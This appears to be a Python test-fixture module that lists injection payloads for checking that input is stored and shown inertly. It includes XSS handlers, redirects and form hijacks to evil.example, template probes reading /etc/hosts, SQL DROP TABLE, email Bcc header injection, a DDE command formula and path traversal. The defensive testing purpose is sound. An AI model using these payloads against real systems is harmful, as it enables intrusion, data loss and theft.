"""What is written into every field: text that would act if anything took it for more than text.

Each runs `window.pwned = 1`, makes an element of its own or works a sum where it is taken for code; where it is taken
for text, it can be read on the page as it stands here.
"""

HTML = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg onload=window.pwned=1>",
    '" autofocus onfocus="window.pwned=1',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "</title></textarea></style></script><script>window.pwned=1</script>",
    "<!--<img src='--><img src=x onerror=window.pwned=1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "<base href=//evil.example/><form action=//evil.example>",
    '<p hx-get=/ hx-trigger=load hx-on:click="window.pwned=1">',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example/x)}</style>",
)
TEMPLATES = (
    "{{7*191}}{% raw %}${7*191}#{7*191}<%=7*191%>",
    "{{ ''.__class__.__mro__ }} %(name)s %(number)s %d %n %",
    '#panic("x") #read("/etc/hosts") $x^2$ *b* _i_ @ref <mark> \\u{41}',
    '"}], "brand": {"name": #eval("7*191")}',
)
SQL = ("'; DROP TABLE invoice; --", "' OR '1'='1' --", "\\'; SELECT pg_sleep(9); --", "%_\\%' ESCAPE '!")
HEADERS = (
    "x\r\nBcc: everybody@evil.example\r\n\r\n<script>window.pwned=1</script>",
    "=?utf-8?q?Bcc=3A_everybody=40evil=2Eexample?=, b@evil.example",
)
# Each begins, or has after a separator, what a spreadsheet takes for a formula.
FORMULAS = (
    '=HYPERLINK("http://evil.example";"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "a;=1+1;b",
    'a"\n=1+1',
)
PATHS = ("../../../../etc/hosts", "..\\..\\windows\\win.ini", "/etc/hosts%00.pdf", "C:\\temp\\x:y")
UNICODE = (
    "\u202egpj.exe\u202c \u2066\u2067x",
    "e" + "\u0301" * 80,
    "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪",
    "שלום مرحبا بالعالم 漢字かな ไทย",
    "\ufffe\uffff\ue000\u2028\u2029\x85\u200b\ufeff",
    "\x01\x02\x07\x08\x0b\x1b[31m\x7f",
    "\U000e0041\U000e0042\U0010ffff\U0001d173",
    "\\u0000 \\ud800 \\x00",
)
KINDS = (HTML, TEMPLATES, SQL, HEADERS, FORMULAS, PATHS, UNICODE)
LONGEST_KEY = 200  # of numbers, which stand in an index; longer ones are set aside
LONGEST_NAME = 500
WORD = "W" * 120  # without a place to break it


def carriers() -> list[str]:
    """The payloads in as many texts as there are formulas or more, each text begun by a formula, none over 200."""
    rest = [text for kind in KINDS if kind is not FORMULAS for text in kind]
    texts: list[str] = []
    while rest:
        text = FORMULAS[len(texts) % len(FORMULAS)]
        while rest and len(text) + 1 + len(rest[0]) <= LONGEST_KEY - 20:
            text += " " + rest.pop(0)
        texts.append(text)
    return texts
